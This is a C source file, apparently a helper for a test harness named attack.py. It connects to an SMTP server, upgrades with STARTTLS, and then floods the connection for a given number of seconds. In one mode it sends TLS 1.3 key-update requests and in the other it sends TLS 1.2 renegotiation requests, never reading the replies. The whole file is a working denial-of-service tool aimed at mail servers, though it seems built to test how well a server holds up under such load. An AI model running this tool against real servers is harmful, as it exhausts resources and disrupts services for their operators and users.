/*
 * What a client may make TLS do, more than once: attacks for attack.py.
 *
 *   tlsattack keyupdate ADDRESS PORT SECONDS   key updates that ask for one
 *   tlsattack renegotiate ADDRESS PORT SECONDS ClientHellos in TLS 1.2
 *
 * One connection after another, and no answer is ever read.
 */
#include <arpa/inet.h>
#include <fcntl.h>
#include <openssl/ssl.h>
#include <poll.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

static int dial(const char *address, const char *port)
{
	struct sockaddr_in at = { .sin_family = AF_INET,
				  .sin_port = htons((in_port_t)atoi(port)) };
	int fd = socket(AF_INET, SOCK_STREAM, 0);

	inet_pton(AF_INET, address, &at.sin_addr);
	if (connect(fd, (struct sockaddr *)&at, sizeof(at)) != 0) {
		close(fd);
		return -1;
	}
	return fd;
}

/* Say it and wait for a line that ends a reply with this code. */
static int say(int fd, const char *line, const char *code)
{
	char text[4096];
	size_t n = 0;
	ssize_t got;

	if (write(fd, line, strlen(line)) < 0)
		return 0;
	while (n < sizeof(text) - 1 &&
	       (got = read(fd, text + n, sizeof(text) - 1 - n)) > 0) {
		char *last;

		n += (size_t)got;
		text[n] = '\0';
		if (n < 2 || text[n - 1] != '\n')
			continue;
		text[n - 1] = '\0';
		last = strrchr(text, '\n');
		last = last != NULL ? last + 1 : text;
		if (last[3] == ' ')
			return strncmp(last, code, 3) == 0;
		text[n - 1] = '\n';
	}
	return 0;
}

static SSL *secure(SSL_CTX *ctx, int fd)
{
	SSL *s = SSL_new(ctx);

	SSL_set_fd(s, fd);
	if (say(fd, "", "220") && say(fd, "EHLO attack.test\r\n", "250") &&
	    say(fd, "STARTTLS\r\n", "220") && SSL_connect(s) == 1)
		return s;
	SSL_free(s);
	return NULL;
}

static int update(SSL *s)
{
	return SSL_key_update(s, SSL_KEY_UPDATE_REQUESTED) == 1 &&
	       SSL_do_handshake(s) == 1;
}

static int renegotiate(SSL *s)
{
	/* the second one needs an answer to the first: a warning is none */
	SSL_renegotiate(s);
	SSL_do_handshake(s);
	return SSL_get_error(s, -1) == SSL_ERROR_WANT_READ;
}

int main(int argc, char **argv)
{
	SSL_CTX *ctx = SSL_CTX_new(TLS_client_method());
	time_t ends;
	long did = 0;
	int is_update;

	if (argc != 5)
		return 2;
	signal(SIGPIPE, SIG_IGN);
	is_update = strcmp(argv[1], "keyupdate") == 0;
	if (!is_update)
		SSL_CTX_set_max_proto_version(ctx, TLS1_2_VERSION);
	for (ends = time(NULL) + atoi(argv[4]); time(NULL) < ends;) {
		int fd = dial(argv[2], argv[3]);
		SSL *s = fd < 0 ? NULL : secure(ctx, fd);

		if (s != NULL)
			fcntl(fd, F_SETFL, fcntl(fd, F_GETFL) | O_NONBLOCK);
		while (s != NULL && time(NULL) < ends &&
		       (is_update ? update(s) : renegotiate(s)))
			did++;
		SSL_free(s);
		if (fd >= 0)
			close(fd);
		usleep(1000); /* turned away: not a storm of connections */
	}
	printf("%ld\n", did);
	return 0;
}
